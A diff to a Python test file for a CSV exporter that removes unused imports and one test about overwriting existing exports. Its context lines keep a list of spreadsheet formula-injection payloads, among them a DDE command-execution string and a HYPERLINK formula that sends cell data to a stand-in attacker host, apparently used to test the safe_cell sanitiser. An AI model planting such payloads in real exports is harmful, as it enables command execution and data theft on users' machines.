@@ -8,19 +8,15 @@ import re
 import sys
 import unicodedata
 from dataclasses import replace
-from pathlib import Path
 
 import pytest
 
 from db.records import Anchor, AnchorState
 from desktop.annotated.document import Document, Exported
 from desktop.annotated.options import Options
-from desktop.errors import ExportFailed
 from desktop.exporters import exporter
-from desktop.exporters.merging import merge_export
 from desktop.exporters.to_csv import COLUMNS, safe_cell
-from desktop.library.saving import write_export
-from tests.annotated.make import SOURCE, THEMES, content_of, document, mark, sample
+from tests.annotated.make import SOURCE, THEMES, content_of, document, mark
 
 PAYLOADS = [
     "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?\"&A1,\"look\")", "=WEBSERVICE(A1)", "==bold==",
@@ -119,14 +115,3 @@ def test_an_orphan_has_no_place_and_links_are_left_out_where_none_are_wanted() -
     one = replace(mark(content_of(SOURCE.encode()), "five firms"), anchor=Anchor(AnchorState.ORPHAN, None, None, 0.0))
     (row,) = table(document(SOURCE, [one]), links="none")
     assert [row[name] for name in ("state", "start", "end", "heading", "link")] == ["ORPHAN", "", "", "", ""]
-
-
-def test_a_table_that_is_there_is_replaced_only_where_that_is_said(tmp_path: Path) -> None:
-    path = tmp_path / "out.csv"
-    exported = exporter("csv").write(sample(), Options())
-    write_export(path, exported)
-    with pytest.raises(ExportFailed, match="written anew each time"):
-        merge_export(sample(), Options(), path.read_bytes(), exporter_id="csv")
-    with pytest.raises(ExportFailed, match="already"):
-        write_export(path, exported)
-    write_export(path, exported, force=True)
